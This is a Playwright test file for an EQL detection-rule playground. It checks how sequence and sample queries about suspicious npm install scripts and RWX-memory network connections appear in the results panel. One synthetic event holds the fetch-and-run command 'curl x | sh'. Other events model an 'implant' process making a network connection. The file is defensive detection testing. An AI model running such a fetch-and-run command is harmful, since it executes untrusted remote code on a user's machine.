/**
 * Sequence and sample queries in the results panel. Rows keep the test contract: one
 * `event-row` per input event; `data-verdict` is "alert" for an event that is part of a returned
 * sequence (or sample) and "no-match" otherwise.
 */
import { existsSync, readFileSync } from 'node:fs';
import { dirname, resolve } from 'node:path';
import { fileURLToPath } from 'node:url';
import { expect, openApp, rows, test, waitReady } from './fixtures';

const ev = (
  t: string,
  host: string,
  os: string,
  name: string,
  entity: string,
  parentName: string,
  parentEntity: string,
  args: string[],
) =>
  JSON.stringify({
    '@timestamp': `2026-03-02T${t}.000Z`,
    event: { category: 'process', type: 'start', action: 'exec' },
    host: { id: host, os: { type: os } },
    process: { name, args, entity_id: entity, parent: { name: parentName, entity_id: parentEntity } },
  });

/** Eight process events: two sequences complete, one candidate overruns maxspan, one is overwritten. */
const SEQUENCE_EVENTS = [
  ev('09:00:00', 'h1', 'linux', 'node', 'P1', 'npm', 'P0', ['npm', 'install']),
  ev('09:00:03', 'h1', 'linux', 'sh', 'C1', 'node', 'P1', ['sh', '-c', 'curl x | sh']),
  ev('09:01:00', 'h1', 'linux', 'node', 'P2', 'npm', 'P0', ['node', 'install']),
  ev('09:01:20', 'h1', 'linux', 'sh', 'C2', 'node', 'P2', ['sh', 'postinstall.sh']),
  ev('09:02:00', 'h2', 'macos', 'node', 'P3', 'npm', 'P0', ['install']),
  ev('09:02:01', 'h2', 'macos', 'node', 'P3', 'npm', 'P0', ['install']),
  ev('09:02:04', 'h2', 'macos', 'python3', 'C3', 'node', 'P3', ['python3', 'setup.py']),
  ev('09:03:00', 'w1', 'windows', 'node', 'P4', 'npm', 'P0', ['install']),
].join('\n');

const SEQUENCE_RULE = `sequence by host.id with maxspan=10s
  [process where host.os.type in ("linux", "macos") and process.name == "node" and process.args == "install"] by process.entity_id
  [process where host.os.type in ("linux", "macos") and process.parent.name == "node"] by process.parent.entity_id`;

async function load(page: import('@playwright/test').Page, rule: string, events: string): Promise<void> {
  await page.evaluate((t) => window.eqlPlayground.setEvents(t), events);
  await page.evaluate((t) => window.eqlPlayground.setRule(t), rule);
  await waitReady(page);
}

const row = (page: import('@playwright/test').Page, id: string) =>
  page.locator(`[data-testid="event-row"][data-event-id="${id}"]`);

test.describe('sequences', () => {
  test('a sequence query shows its sequences, which stages each event matched, and what became of its candidates', async ({
    page,
  }) => {
    await openApp(page);
    await load(page, SEQUENCE_RULE, SEQUENCE_EVENTS);
    await expect(page.getByTestId('summary')).toHaveText('2 sequences · 4 events in sequences · 4 not in a sequence');
    await expect(rows(page)).toHaveCount(8);
    const alerts = await page
      .locator('[data-testid="event-row"][data-verdict="alert"]')
      .evaluateAll((els) => els.map((e) => e.getAttribute('data-event-id')));
    expect(alerts).toEqual(['0', '1', '5', '6']);

    // the returned sequences with their join keys (sequence key, then the first stage's key) and span
    const seqs = page.getByTestId('sequence');
    await expect(seqs).toHaveCount(2);
    await expect(seqs.nth(0).getByTestId('join-keys')).toHaveText('h1, P1');
    await expect(seqs.nth(1).getByTestId('join-keys')).toHaveText('h2, P3');
    await expect(seqs.nth(0).getByTestId('sequence-span')).toHaveText('span 3s of maxspan 10s');
    // The events have no id field: cards call them by their number, as the rows do.
    await expect(seqs.nth(0).getByTestId('sequence-event')).toHaveText(['S1 #1', 'S2 #2']);

    // stage chips and candidate fates on the rows
    await expect(row(page, '0').locator('[data-testid="stage-chip"][data-matched="true"]')).toHaveAttribute(
      'data-stage',
      'S1',
    );
    await expect(row(page, '2').getByTestId('candidate-line')).toContainText('maxspan');
    await expect(row(page, '2').getByTestId('candidate-line')).toContainText('exceeded by 10000 ms');
    await expect(row(page, '4').getByTestId('candidate-line')).toContainText('overwritten');
    // an event no stage accepted shows the same reason line as an event query
    await expect(row(page, '7').getByTestId('reason')).toContainText('host.os.type in (');
    await expect(row(page, '7').getByTestId('reason')).toContainText('windows');

    // the detail panel: per-stage verdicts with reasons, candidate notes
    await row(page, '2').click();
    const detail = page.getByTestId('detail');
    await expect(detail.locator('[data-testid="stage-verdict"][data-stage="S1"]')).toHaveAttribute(
      'data-matched',
      'true',
    );
    await expect(detail.locator('[data-testid="stage-verdict"][data-stage="S2"]')).toHaveAttribute(
      'data-matched',
      'false',
    );
    await expect(detail.locator('[data-testid="stage-verdict"][data-stage="S2"]').getByTestId('reason')).toContainText(
      'process.parent.name == "node"',
    );
    await expect(detail.locator('[data-testid="candidate-note"][data-outcome="maxspan"]')).toContainText('exceeded');
    // selecting an event highlights the stage term it matched
    const ruleEditor = page.getByTestId('rule-editor');
    await expect(ruleEditor.locator('.eql-hl-match')).not.toHaveCount(0);

    // selecting a sequence highlights its events and its stage terms
    await seqs.nth(1).click();
    await expect(page.getByTestId('sequence-detail')).toContainText('event #6');
    await expect(page.getByTestId('sequence-detail')).toContainText('event #7');
    await expect(page.locator('[data-testid="events-editor"] .eql-hl-event-gutter')).toHaveCount(2);
    await expect(ruleEditor.locator('.eql-hl-clause')).not.toHaveCount(0);
    await expect(page.locator('.event-row.in-selected-sequence')).toHaveCount(2);

    // filters
    await page.getByTestId('filter-no-match').click();
    await expect(rows(page)).toHaveCount(4);
    await page.getByTestId('filter-all').click();

    // the Elasticsearch tab shows hits.sequences in Elasticsearch's shape
    await page.getByTestId('tab-es').click();
    const hits = JSON.parse((await page.getByTestId('es-response').textContent()) ?? '{}') as {
      hits: { total: { value: number }; sequences: { join_keys: unknown[]; events: { _id: string }[] }[] };
    };
    expect(hits.hits.total.value).toBe(2);
    expect(hits.hits.sequences.map((s) => s.join_keys)).toEqual([
      ['h1', 'P1'],
      ['h2', 'P3'],
    ]);
    expect(hits.hits.sequences.map((s) => s.events.map((e) => e._id))).toEqual([
      ['0', '1'],
      ['5', '6'],
    ]);
  });

  test('missing-event terms show placeholders', async ({ page }) => {
    await openApp(page);
    const rule = `sequence by host.id with maxspan=30s
  [process where process.name == "node"]
  ![process where process.name == "python3"]`;
    await load(page, rule, SEQUENCE_EVENTS);
    const seqs = page.getByTestId('sequence');
    await expect(seqs.first()).toBeVisible();
    await expect(seqs.first().getByTestId('sequence-missing')).toContainText('missing');
    await expect(page.getByTestId('summary')).toContainText('sequence');
  });

  test('a sample query shows its samples', async ({ page }) => {
    await openApp(page);
    await load(
      page,
      'sample by host.id [process where process.name == "node"] [process where process.parent.name == "node"]',
      SEQUENCE_EVENTS,
    );
    await expect(page.getByTestId('summary')).toContainText(
      /^\d+ samples? · \d+ events? in samples · \d+ not in a sample$/,
    );
    await expect(page.getByTestId('sequence').first()).toContainText('F1');
    await expect(rows(page)).toHaveCount(8);
  });

  test('switching back to an event query restores the verdict view', async ({ page }) => {
    await openApp(page);
    await load(page, SEQUENCE_RULE, SEQUENCE_EVENTS);
    await expect(page.getByTestId('sequence')).toHaveCount(2);
    await page.evaluate(() => window.eqlPlayground.setRule('process where process.name == "node"'));
    await waitReady(page);
    await expect(page.getByTestId('summary')).toHaveText('5 alert · 0 suppressed · 3 no match');
    await expect(page.getByTestId('sequence')).toHaveCount(0);
  });
});

/* Real rules from the detection-rules corpus, with events written for them, for screenshots. */

const corpusPath = resolve(dirname(fileURLToPath(import.meta.url)), '../../../shared/corpus/detection-rules-eql.jsonl');

function corpusQuery(name: string): string | undefined {
  if (!existsSync(corpusPath)) return undefined;
  for (const line of readFileSync(corpusPath, 'utf8').split('\n')) {
    if (!line.trim()) continue;
    const r = JSON.parse(line) as { name: string; query: string };
    if (r.name === name) return r.query;
  }
  return undefined;
}

const SAMPLE_EVENTS = [
  { t: '10:00:00', host: 'h1', pid: 4242, name: 'implant', kind: 'mprotect' },
  { t: '10:00:05', host: 'h1', pid: 4242, name: 'implant', kind: 'net', ip: '203.0.113.7' },
  { t: '10:01:00', host: 'h1', pid: 77, name: 'java', kind: 'mprotect' },
  { t: '10:01:02', host: 'h1', pid: 77, name: 'java', kind: 'net', ip: '198.51.100.20' },
  { t: '10:02:00', host: 'h2', pid: 900, name: 'loader', kind: 'mprotect' },
  { t: '10:02:03', host: 'h2', pid: 900, name: 'loader', kind: 'net', ip: '127.0.0.1' },
]
  .map((e) =>
    JSON.stringify(
      e.kind === 'mprotect'
        ? {
            '@timestamp': `2026-03-02T${e.t}Z`,
            event: { category: 'process', type: 'change' },
            host: { id: e.host, os: { type: 'linux' } },
            auditd: { data: { syscall: 'mprotect', a2: '7' } },
            process: { pid: e.pid, name: e.name },
          }
        : {
            '@timestamp': `2026-03-02T${e.t}Z`,
            event: { category: 'network', type: 'start', action: 'connection_attempted' },
            host: { id: e.host, os: { type: 'linux' } },
            destination: { ip: e.ip },
            process: { pid: e.pid, name: e.name },
          },
    ),
  )
  .join('\n');

const CORPUS_CASES = [
  {
    file: 'sequence',
    name: 'Node.js Pre or Post-Install Script Execution',
    events: SEQUENCE_EVENTS,
    summary: '2 sequences · 4 events in sequences · 4 not in a sequence',
    select: '2',
  },
  {
    file: 'sample',
    name: 'Network Connection from Binary with RWX Memory Region',
    events: SAMPLE_EVENTS,
    summary: '1 sample · 2 events in samples · 4 not in a sample',
    select: '3',
  },
];

for (const c of CORPUS_CASES) {
  for (const scheme of ['light', 'dark'] as const) {
    test(`screenshot: corpus ${c.file} rule "${c.name}" (${scheme})`, async ({ page }) => {
      const query = corpusQuery(c.name);
      test.skip(query === undefined, `needs ${corpusPath} (the detection-rules corpus), which is not present`);
      await page.emulateMedia({ colorScheme: scheme });
      await openApp(page);
      await load(page, query!, c.events);
      await expect(page.getByTestId('summary')).toHaveText(c.summary);
      await row(page, c.select).click();
      await page.evaluate(() => window.eqlPlayground.ready());
      await page.waitForTimeout(400);
      await page.screenshot({ path: `reports/screenshot-${c.file}-${scheme}.png` });
      await page.getByTestId('sequence').first().click();
      await page.waitForTimeout(400);
      await page.screenshot({ path: `reports/screenshot-${c.file}-selected-${scheme}.png` });
    });
  }
}
